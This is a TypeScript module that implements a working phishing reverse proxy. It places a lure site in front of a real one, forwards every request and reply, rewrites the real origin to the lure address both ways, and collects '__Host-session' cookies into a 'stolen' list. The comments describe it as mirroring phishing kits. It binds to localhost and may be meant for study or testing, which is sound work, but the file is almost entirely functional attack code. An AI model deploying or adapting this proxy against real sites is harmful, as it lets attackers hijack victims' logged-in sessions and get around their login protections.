import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';

interface Site {
  /** As people see it. */
  origin: string;
  /** Where it is reached. */
  port: number;
}

export interface PhishingProxy {
  /** Cookies of sessions that went through it. */
  stolen: string[];
  close: () => void;
}

/** Headers of one connection, and of bytes that whoever passes them on has unpacked. */
export const hopByHop = new Set([
  'connection',
  'transfer-encoding',
  'content-length',
  'content-encoding',
  'accept-encoding',
]);

/**
 * A false site in front of the real one, as kits for phishing have it: every page and call passes through, its own
 * address in place of the true one both ways, and what opens a session is copied on the way.
 */
export async function startPhishingProxy(real: Site, lure: Site): Promise<PhishingProxy> {
  const stolen: string[] = [];
  const toReal = (words: string) => words.replaceAll(lure.origin, real.origin);
  const toLure = (words: string) =>
    words.replaceAll(real.origin, lure.origin).replaceAll(new URL(real.origin).hostname, new URL(lure.origin).hostname);

  function answer(from: IncomingMessage, body: string, reply: ServerResponse) {
    const cookies = from.headers['set-cookie'] ?? [];
    stolen.push(
      ...cookies.filter((each) => /^__Host-session=[\w-]/.test(each)).map((each) => each.split(';')[0] ?? ''),
    );
    for (const [name, value] of Object.entries(from.headers))
      if (value !== undefined && !hopByHop.has(name) && name !== 'set-cookie') reply.setHeader(name, value);
    if (cookies.length > 0) reply.setHeader('set-cookie', cookies);
    reply.writeHead(from.statusCode ?? 502).end(body);
  }
  const server = createServer((asked, reply) => {
    void text(asked).then((body) => {
      const headers = Object.fromEntries(
        Object.entries(asked.headers)
          .filter(([name]) => !hopByHop.has(name))
          .map(([name, value]) => [name, toReal(String(value))]),
      );
      const passed = Buffer.from(toReal(body));
      const host = new URL(real.origin).host;
      const options = { port: real.port, host: '127.0.0.1', method: asked.method, path: asked.url };
      request({ ...options, headers: { ...headers, host, 'content-length': passed.length } }, (from) => {
        void text(from).then((words) => answer(from, toLure(words), reply));
      })
        .on('error', () => reply.writeHead(502).end())
        .end(passed);
    });
  }).listen(lure.port, '127.0.0.1');
  await once(server, 'listening');
  return { stolen, close: () => void server.close() };
}
